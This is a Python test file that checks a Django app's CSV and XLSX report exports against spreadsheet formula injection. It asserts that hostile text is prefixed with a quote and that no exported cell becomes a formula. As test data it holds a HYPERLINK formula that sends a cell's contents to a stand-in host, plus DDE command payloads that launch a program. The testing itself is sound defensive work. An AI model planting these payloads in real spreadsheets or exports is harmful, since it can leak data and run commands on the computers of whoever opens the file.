"""Issue 14, item 6: formula injection in the exports.

A partner admin renamed a support group to ``=HYPERLINK("http://x"&B2,"Kliknij")``: the yearly and regional CSV
carried it as is and the XLSX held a live formula. Every CSV and XLSX export now goes through core/exports.py:
such text is prefixed with a quote, every XLSX text cell is a string (never a formula), numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from core.exports import csv_cell, neutralise, xlsx_append, xlsx_cell
from reporting.exports import export
from reporting.yearly import Period, monitoring_report
from reporting.yearly.regional import regional_report
from tests.employment.test_employment import emp, post_placement, propose  # noqa: F401 - fixture
from tests.reporting.test_reports import report_world  # noqa: F401 - the fixture, figures worked out by hand

pytestmark = pytest.mark.django_db

HOSTILE_GROUP = '=HYPERLINK("http://x"&B2,"Kliknij")'
HOSTILE_PARTNER = "+cmd|' /C calc'!A0"
HOSTILE_NETWORK = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("=1+1", "'=1+1"),
        ("+48 600 100 200", "'+48 600 100 200"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Razem Łatwiej", "Razem Łatwiej"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_it_neutralises_text_a_spreadsheet_would_run(text: str, inert: str) -> None:
    assert neutralise(text) == inert
    assert csv_cell(text) == inert
    assert xlsx_cell(text) == inert


def test_numbers_stay_numbers() -> None:
    assert csv_cell(-3) == "-3"
    assert csv_cell(-1.5, "-1,5") == "-1,5"
    assert xlsx_cell(-3) == -3 and xlsx_cell(2.5) == 2.5
    assert csv_cell(None) == "" and xlsx_cell(None) is None
    assert csv_cell(True) == "True"  # a bool is no figure
    assert xlsx_cell(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)


def test_the_xlsx_writer_never_makes_a_formula_or_an_error_of_text() -> None:
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, ["=1+1", "#N/A", -4, "x"])
    saved = io.BytesIO()
    book.save(saved)
    loaded = load_workbook(saved).active
    assert loaded is not None
    row = next(loaded.iter_rows())
    assert [cell.data_type for cell in row] == ["s", "s", "n", "s"]
    assert [cell.value for cell in row] == ["'=1+1", "#N/A", -4, "x"]


@pytest.fixture
def hostile_world(report_world: Any) -> Any:  # noqa: F811 - the fixture imported above
    report_world.group.name = HOSTILE_GROUP
    report_world.group.save(update_fields=["name"])
    report_world.receiving.short_name = ""
    report_world.receiving.name = HOSTILE_PARTNER
    report_world.receiving.save(update_fields=["name", "short_name"])
    report_world.network.name = HOSTILE_NETWORK
    report_world.network.save(update_fields=["name"])
    return report_world


def reports(world: Any) -> dict[str, Any]:
    with translation.override("pl"):
        return {
            "yearly": monitoring_report(world.network, Period.year(2025)),
            "regional": regional_report(Period.year(2025)),
        }


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("kind", ["yearly", "regional"])
def test_the_csv_carries_a_hostile_name_inert(hostile_world: Any, kind: str) -> None:
    report = reports(hostile_world)[kind]
    with translation.override("pl"):
        cells = csv_cells(export(report, "csv").content)
    assert "'" + HOSTILE_GROUP in cells
    if kind == "yearly":
        assert "'" + HOSTILE_PARTNER in cells
        assert "'" + HOSTILE_NETWORK in cells  # the scope line
    # Nothing in the file starts a formula.
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not cell.lstrip("-").replace(",", "").isdigit()]


@pytest.mark.parametrize("kind", ["yearly", "regional"])
def test_the_xlsx_holds_no_formula_and_numbers_as_numbers(hostile_world: Any, kind: str) -> None:
    report = reports(hostile_world)[kind]
    with translation.override("pl"):
        content = export(report, "xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert "'" + HOSTILE_GROUP in values
    assert HOSTILE_GROUP not in values
    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    numbers = [cell for cell in cells if cell.data_type == "n"]
    assert numbers and all(isinstance(cell.value, int | float) for cell in numbers)


def test_the_report_pages_download_the_same_inert_files(client: Any, hostile_world: Any) -> None:
    client.force_login(hostile_world.coordinator)
    url = reverse("report-monitoring", args=[hostile_world.network.pk])
    response = client.get(url, {"year": 2025, "format": "csv"})
    assert response.status_code == 200
    assert "'" + HOSTILE_GROUP in csv_cells(response.content)
    xlsx = client.get(url, {"year": 2025, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_employers_candidates_csv_uses_the_same_helper(emp: Any) -> None:  # noqa: F811 - the fixture
    person = emp.person
    type(person).objects.filter(pk=person.pk).update(last_name=HOSTILE_GROUP, skills_experience="@SUM(1+1)")
    placement = post_placement(emp)
    propose(emp, placement, person)
    client = Client()
    client.force_login(emp.world.employer_staff)
    response = client.get(f"/placements/{placement.pk}/candidates.csv")
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert "'" + HOSTILE_GROUP in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
